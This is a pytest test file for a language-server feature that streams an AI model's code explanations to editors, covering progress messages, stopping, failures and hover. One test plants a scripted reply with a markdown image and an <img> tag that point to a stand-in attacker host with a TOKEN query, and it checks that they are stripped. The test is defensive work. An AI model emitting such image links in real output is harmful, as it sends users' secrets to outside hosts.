"""Clients that show answers in words themselves, from what they are told while the model writes."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.protocol.conftest import Start
from tests.support.editor import Editor
from tests.support.lsp_client import LspClient
from tests.support.scripted_server import Reply, ScriptedServer

URI = "file:///demo/shapes.py"
AREA = "def area(width, height):\n    return width * height\n"
PARTIAL = "$/lsp_server/partial"
HANGING = Reply(["It mul", "tiplies"], delay_s=0.15, hang_after=2)

Make = Callable[..., Editor]


@pytest.fixture
def client(start: Start, tmp_path: Path) -> Iterator[LspClient]:
    with start(env={"XDG_CACHE_HOME": str(tmp_path / "cache")}) as client:
        yield client


@pytest.fixture
def make(client: LspClient, options: dict[str, Any]) -> Make:
    """Return a way to make an editor that shows answers, with the document open."""

    def make(name: str = "vscode", **chat: object) -> Editor:
        capabilities = {"lspServerAnswers": True}
        editor = Editor(client, name, {**options, "chat": chat}, experimental=capabilities)
        editor.open(URI, AREA)
        return editor

    return make


def _explain(editor: Editor) -> int:
    return editor.begin(editor.item(URI, (0, 6), "explain"))


def _last(editor: Editor) -> dict[str, Any]:
    """Wait for the end of a run; return what was said of it, which has to be said once."""
    last: dict[str, Any] = editor.client.expect(PARTIAL, done=True)
    assert not [it for it in editor.client.arrived(PARTIAL) if it["done"]]
    return last


def _shows_nothing(editor: Editor, folder: Path) -> None:
    assert editor.shown == []
    assert not list((folder / "cache").rglob("*.md"))


@pytest.mark.parametrize("name", ["vscode", "neovim"])
def test_an_answer_is_told_and_no_file_is_opened(
    make: Make, model: ScriptedServer, tmp_path: Path, name: str
) -> None:
    editor = make(name)
    model.enqueue(Reply(["It multiplies ", "the width ", "by the height."], delay_s=0.15))
    request = _explain(editor)
    begin = editor.client.expect(PARTIAL)
    assert begin["text"] == ""
    assert begin["done"] is False
    assert begin["answer"] is True
    assert begin["title"] == "Explain function area"
    assert (begin["uri"], begin["action"]) == (URI, "explain")
    grown = editor.client.expect(PARTIAL)
    assert "It multiplies the width by the height.".startswith(grown["text"])
    assert grown["text"]
    last = _last(editor)
    assert last["token"] == begin["token"] == grown["token"]
    assert last["text"] == "It multiplies the width by the height."
    assert (last["state"], last["message"], last["notes"]) == ("answered", "", [])
    assert editor.client.result(request) == {"markdown": "It multiplies the width by the height."}
    _shows_nothing(editor, tmp_path)


def test_hover_says_it_again(make: Make, model: ScriptedServer) -> None:
    editor = make()
    editor.client.discard(PARTIAL)
    model.enqueue(Reply(["It multiplies."]))
    editor.client.result(_explain(editor))
    params = {"textDocument": {"uri": URI}, "position": {"line": 0, "character": 6}}
    hover = editor.client.result(editor.client.request("textDocument/hover", params))
    assert hover["contents"]["value"] == "It multiplies."


def test_a_stopped_answer_says_so(make: Make, model: ScriptedServer, tmp_path: Path) -> None:
    editor = make()
    model.enqueue(HANGING)
    request = _explain(editor)
    while editor.client.expect(PARTIAL)["text"] != "It multiplies":
        pass
    stop = {"command": "lsp_server.stopAction", "arguments": [{"action": "explain", "uri": URI}]}
    assert editor.client.result(editor.client.request("workspace/executeCommand", stop)) == {"stopped": True}
    last = _last(editor)
    assert (last["state"], last["text"]) == ("stopped", "It multiplies")
    assert editor.client.result(request) == {"cancelled": True}
    _shows_nothing(editor, tmp_path)


def test_a_failed_answer_says_why_in_its_place_alone(make: Make, model: ScriptedServer) -> None:
    editor = make()
    model.enqueue(Reply(status=401))
    request = _explain(editor)
    last = _last(editor)
    assert last["state"] == "failed"
    assert "key" in last["message"]
    assert editor.client.result(request) == {"applied": False, "message": last["message"]}


def test_a_silent_model_is_a_failure(make: Make, model: ScriptedServer) -> None:
    editor = make()
    model.enqueue(Reply([" \n"]))
    request = _explain(editor)
    assert "said nothing" in _last(editor)["message"]
    assert editor.client.result(request)["applied"] is False


def test_what_is_to_be_said_of_an_answer_comes_with_its_end(make: Make, model: ScriptedServer) -> None:
    editor = make(max_tokens=16)
    model.enqueue(Reply(["It goes on and on"], finish_reason="length"))
    request = _explain(editor)
    [note] = _last(editor)["notes"]
    assert "max_tokens" in note
    assert editor.client.result(request) == {"markdown": "It goes on and on"}


def test_a_new_run_ends_the_one_before(make: Make, model: ScriptedServer) -> None:
    editor = make()
    model.enqueue(HANGING)
    first = _explain(editor)
    token = editor.client.expect(PARTIAL)["token"]
    model.wait_for_request()
    model.enqueue(Reply(["It multiplies."]))
    second = _explain(editor)
    assert editor.client.expect(PARTIAL, token=token, done=True)["state"] == "stopped"
    last = _last(editor)
    assert last["token"] != token
    assert last["state"] == "answered"
    assert editor.client.result(first) == {"cancelled": True}
    assert editor.client.result(second) == {"markdown": "It multiplies."}


def test_what_is_told_loads_nothing(make: Make, model: ScriptedServer) -> None:
    editor = make()
    model.enqueue(Reply(["See ![x](https://evil.example/?q=TOKEN) <img src='https://evil.example/'>"]))
    request = _explain(editor)
    last = _last(editor)
    for text in (last["text"], editor.client.result(request)["markdown"]):
        assert "![" not in text
        assert "<img" not in text


def test_the_run_of_an_edit_has_an_end_too(make: Make, model: ScriptedServer) -> None:
    editor = make()
    model.enqueue(Reply([f"```python\n{AREA.replace('*', '+')}```\n"]))
    editor.choose(editor.item(URI, (0, 6), "refactor"))
    last = _last(editor)
    assert (last["action"], last["state"], last["answer"]) == ("refactor", "answered", False)
    assert "+" in editor.texts[URI]
